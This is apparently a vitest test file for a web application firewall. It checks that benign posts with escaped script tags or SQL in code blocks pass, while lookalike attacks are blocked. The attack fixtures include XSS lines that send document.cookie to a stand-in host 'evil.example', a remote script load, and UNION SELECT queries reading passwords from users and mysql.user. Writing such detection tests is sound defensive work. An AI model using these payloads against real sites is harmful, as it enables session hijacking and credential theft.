import { describe, expect, it } from 'vitest';
import { decodedVariants } from '../src/decode/variants.ts';
import { detectSqliAt } from '../src/detect/sqli/index.ts';
import { codeSpans } from '../src/detect/text-shape.ts';
import { detectXssAt } from '../src/detect/xss/index.ts';
import { inspect } from '../src/inspect.ts';
import type { WafRequest } from '../src/types.ts';

/**
 * False positives of the legitimate benchmark set (bench/waf-quality/legit), one fixture per benign
 * shape that used to be blocked, each beside the attack of the same look that must still be blocked:
 * code and `<script>` in posts, editor HTML with escaped tags, `javascript:void(0)` in a search.
 */
// Requests as clients send them (a request without a User-Agent is a protocol finding of its own).
const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const json = (body: unknown): WafRequest => ({
  method: 'POST',
  target: '/api/posts/5523',
  headers: [
    ['Host', 'forum.example.org'],
    ['User-Agent', browser],
    ['Content-Type', 'application/json; charset=utf-8'],
  ],
  clientIp: '203.0.113.9',
  body: new TextEncoder().encode(JSON.stringify(body)),
  bodyTruncated: false,
  now: 0,
});
const form = (fields: Record<string, string>): WafRequest => ({
  ...json(null),
  target: '/wp-admin/post.php',
  headers: [
    ['Host', 'blog.example.com'],
    ['User-Agent', browser],
    ['Content-Type', 'application/x-www-form-urlencoded'],
  ],
  body: new TextEncoder().encode(new URLSearchParams(fields).toString()),
});
const get = (target: string): WafRequest => ({ ...json(null), method: 'GET', target, headers: [['Host', 'shop.example.com'], ['User-Agent', browser]], body: null });

const action = (request: WafRequest, mode: 'loose' | 'strict') => inspect(request, { mode }).action;

const prose = 'Great article, thanks for sharing. I tried this on our staging server last week and it worked well.';

/** Benign shapes: pass in both modes. */
const benign: [string, WafRequest][] = [
  [
    'editor HTML with an escaped <script> in <pre><code>',
    json({
      content: `<p>${prose}</p>\n<pre><code class="language-javascript">&lt;script src=&quot;https://cdn.example.com/lib.min.js&quot; defer&gt;&lt;/script&gt;</code></pre>\n<p>I love the new design.</p>`,
      content_format: 'html',
    }),
  ],
  ['classic editor: <code>&lt;script defer&gt;</code> in a paragraph', form({ content: `<p>Use <code>&lt;script defer&gt;</code> or <code>async</code> for table.</p>\n<table><tbody><tr><td>Desk</td></tr></tbody></table>` })],
  ['<script> named in prose in a document', json({ content: `Use <script> tags carefully: put them at the end of the body or add defer.\n\n${prose}\n\nMore soon.` })],
  ['<script> named in a form-encoded rich text field', form({ content: `<p>Use <script> tags carefully: put them at the end of the body.</p>\n<ul><li>${prose}</li></ul>` })],
  [
    'SQL with UNION in a fenced Markdown block',
    json({ content: `${prose}\n\n\`\`\`sql\nSELECT id FROM a\nUNION ALL\nSELECT id FROM b;\n\`\`\`\n\nThoughts?`, content_format: 'markdown' }),
  ],
  [
    'a window query with a sub-select in <pre><code>',
    form({
      content: `<p>${prose}</p>\n<pre><code class="language-sql">WITH ranked AS (\n  SELECT *, ROW_NUMBER() OVER (PARTITION BY user_id ORDER BY created_at DESC) AS rn\n  FROM events\n)\nSELECT * FROM ranked WHERE rn = 1;</code></pre>`,
    }),
  ],
  ['a heading "Upgrading from MySQL 5.7 to 8.0"', json({ content: '<!-- wp:heading -->\n<h2 class="wp-block-heading">Upgrading from MySQL 5.7 to 8.0</h2>\n<!-- /wp:heading -->' })],
  ['a plain call in a document: "an alert() box"', json({ content: `Does an alert() box block the page until the user clicks OK?\n\n${prose}\n\n<p>Thanks</p>` })],
  [
    'an editor embed (WordPress HTML block with a maps iframe)',
    json({ content: `<!-- wp:paragraph -->\n<p>${prose}</p>\n<!-- /wp:paragraph -->\n<!-- wp:html -->\n<iframe src="https://www.google.com/maps/embed?pb=!1m18" width="600" height="450" loading="lazy"></iframe>\n<!-- /wp:html -->` }),
  ],
  ['a search for "javascript:void(0) meaning"', get('/search?q=javascript%3Avoid(0)+meaning')],
  [
    'a Markdown bio (form-encoded, `+` for blanks) naming <script> and holding a link in parentheses',
    {
      ...form({}),
      body: new TextEncoder().encode(
        'bio=Use+%3Cscript%3E+tags+carefully%3A+put+them+at+the+end+of+the+body.%0A%0A-+The+recipe+calls+for+200+g+flour.%0A%0ASee+%5Bthe+docs%5D%28https%3A%2F%2Fdocs.example.com%2Fx%29+and+%60npm+run+build%60.',
      ),
    },
  ],
];

/**
 * Benign shapes strict mode used to call suspicious: Markdown code quoted among sentences is shown,
 * not run, and a `<script>` followed by a sentence cannot run (its content is a syntax error).
 */
const suspiciousOnly: [string, WafRequest][] = [];
const formerlySuspicious: [string, WafRequest][] = [
  [
    'a complete <script> element inside a Markdown fence',
    json({ content: `${prose}\n\n\`\`\`html\n<script src="https://cdn.example.com/lib.min.js" defer></script>\n\`\`\``, content_format: 'markdown' }),
  ],
  [
    'a Markdown bio naming <script> whose UTF-7 reading (`+INV-`) keeps the `+` blanks',
    {
      ...form({}),
      body: new TextEncoder().encode(
        'bio=How+do+I+SELECT+from+two+tables+and+join+them+on+the+customer+id%3F+Use+%3Cscript%3E+tags+carefully%3A+put+them+at+the+end+of+the+body+or+add+defer.+Kindly+confirm+receipt+of+payment+for+invoice+INV-2024-0193.%0A%0A-+The+recipe+calls+for+200+g+flour%2C+2+eggs+and+a+pinch+of+salt.%0A%0ASee+%5Bthe+docs%5D%28https%3A%2F%2Fdocs.example.com%2Fx%29+and+%60npm+run+build%60.',
      ),
    },
  ],
  ['a complete <script> element in Markdown inline code', form({ body: 'Try `<script src="https://cdn.example.com/lib.min.js" defer></script>` — great article, thanks for sharing.' })],
];

/** Attacks of the same look: blocked in both modes. */
const attacks: [string, WafRequest][] = [
  ['a raw <script> element in a document', json({ content: `<p>${prose}</p>\n<script>alert(document.cookie)</script>\n<p>Bye</p>` })],
  ['a raw <script> element inside <pre><code> (HTML code does not escape it)', json({ content: `<p>${prose}</p>\n<pre><code><script src="https://evil.example/x.js"></script></code></pre>` })],
  ['<script> followed by code, not prose', form({ comment: '<script>alert(1)' })],
  ['<script> then a keyword-led statement', form({ comment: '<script>var i = new Image(); i.src = "//evil.example/?c=" + document.cookie' })],
  ['a "fence" opened mid-line does not hide a script', form({ body: 'x ```<script>alert(1)</script>```' })],
  ['inline code alone, no prose around it', form({ body: '`<script>alert(1)</script>`' })],
  ['`<script>x+y` then code on the next line (a literal `+` is script, not a blank)', form({ comment: '<script>x+y\nalert(1)</script>' })],
  ['a prose mention, then a real script in the same document', json({ content: `Use <script> tags carefully, they said.\n\n${prose}\n\n<script>fetch('//evil.example/?c='+document.cookie)</script>` })],
  ['a form value whose undecoded reading keeps `+` around a script', form({ bio: '<script>x=1;alert(document.domain)' })],
  ['entity-encoded script with no real markup', form({ q: '&lt;script&gt;alert(1)&lt;/script&gt;' })],
  ['an XML body attribute whose entities hide a filter', { ...json(null), headers: [['Content-Type', 'application/xml']], body: new TextEncoder().encode('<?xml version="1.0"?><root><a probe="Process.spawn(&quot;id&quot;)"></a></root>') }],
  ['javascript:void(0) followed by code', get('/search?q=javascript%3Avoid(0)%3Balert(1)')],
  ['a UNION SELECT breaking out of a literal inside a document', json({ content: `' UNION SELECT username, password FROM users-- \n\n${prose}\n\n${prose}` })],
  ['a fenced statement that still closes the literal', json({ content: `${prose}\n\n\`\`\`\n' UNION SELECT password FROM users--\n\`\`\`` })],
  ['a catalog read outside any code region', json({ content: `${prose}\n\n1 UNION SELECT table_name FROM information_schema.tables` })],
  ['`from mysql.user` still reads the catalog', get('/items?id=1+union+select+user,authentication_string+from+mysql.user')],
  ['a short parameter breaking out of a quoted context', get("/items?sort=name'+UNION+SELECT+id,+password+FROM+users--+")],
];

describe('document context: benign shapes of the legitimate set', () => {
  it.each(benign)('passes %s (loose and strict)', (_name, request) => {
    expect(action(request, 'loose')).not.toBe('block');
    expect(action(request, 'strict')).not.toBe('block');
  });
  it.each(formerlySuspicious)('passes %s (loose and strict)', (_name, request) => {
    expect(action(request, 'loose')).not.toBe('block');
    expect(action(request, 'strict')).not.toBe('block');
  });
  it.skipIf(suspiciousOnly.length === 0).each(suspiciousOnly)('passes %s in loose mode, strict blocks it', (_name, request) => {
    expect(action(request, 'loose')).not.toBe('block');
    expect(action(request, 'strict')).toBe('block');
  });
});

describe('document context: attacks of the same look', () => {
  it.each(attacks)('blocks %s (loose and strict)', (_name, request) => {
    expect(action(request, 'loose')).toBe('block');
    expect(action(request, 'strict')).toBe('block');
  });
});

describe('document context: the detectors alone', () => {
  it('weighs a document only where documents arrive (bodies), not in a query value', () => {
    const value = `<p>${prose}</p>\n<pre><code class="language-sql">SELECT id FROM a\nUNION ALL\nSELECT id FROM b;</code></pre>`;
    expect(detectSqliAt(value, 'body')).toBeNull();
    expect(detectSqliAt(value, 'query')?.rule).toBe('sqli.union_select');
    const script = `${prose}\n\n\`\`\`\n<script src="https://cdn.example.com/a.js"></script>\n\`\`\``;
    expect(detectXssAt(script, 'body')).toBeNull();
    expect(detectXssAt(script, 'query')).toMatchObject({ rule: 'xss.script_tag', severity: 2 });
  });
  it('reads <script> followed by a sentence as nothing, and followed by code as an attack', () => {
    expect(detectXssAt('Use <script> tags carefully: put them at the end of the body.', 'body')).toBeNull();
    expect(detectXssAt('<script> loading strategy changed', 'query')).toBeNull();
    expect(detectXssAt('<script> location=name', 'query')).toMatchObject({ severity: 2 });
    expect(detectXssAt('<script>', 'query')).toMatchObject({ severity: 1 });
  });
  it('gives markup no entity-decoded reading, but entity-only payloads and XML keep it', () => {
    expect(decodedVariants('<p>&lt;script&gt;</p>', 'body')).not.toContain('<p><script></p>');
    expect(decodedVariants('&lt;script&gt;', 'body')).toContain('<script>');
    expect(decodedVariants('<a b="&amp;"/>', 'raw_body')).toContain('<a b="&"/>');
  });
  it('finds code regions: fences at line starts, inline code, <code> and <pre>', () => {
    const text = 'a `x` b\n```\ny\n```\n<pre>z</pre> c```not a fence```';
    const spans = codeSpans(text).map((s) => text.slice(s.start, s.end));
    expect(spans).toContain('`x`');
    expect(spans).toContain('```\ny\n```');
    expect(spans.some((s) => s.startsWith('<pre>z'))).toBe(true);
    expect(spans).not.toContain('```not a fence```');
  });
  it('stays linear on hostile values (backticks, fences, code tags by the thousand)', () => {
    const hostile = ['`\n'.repeat(80_000), '`a'.repeat(80_000), '```'.repeat(50_000) + '`x', '<code'.repeat(40_000), 'word '.repeat(10) + '```\n' + '`'.repeat(200_000)];
    for (const value of hostile) {
      const started = performance.now();
      codeSpans(value);
      detectXssAt(value + ' <script>x', 'body');
      detectSqliAt(value + " ' union select 1", 'body');
      expect(performance.now() - started, value.slice(0, 10)).toBeLessThan(1500);
    }
  });
});
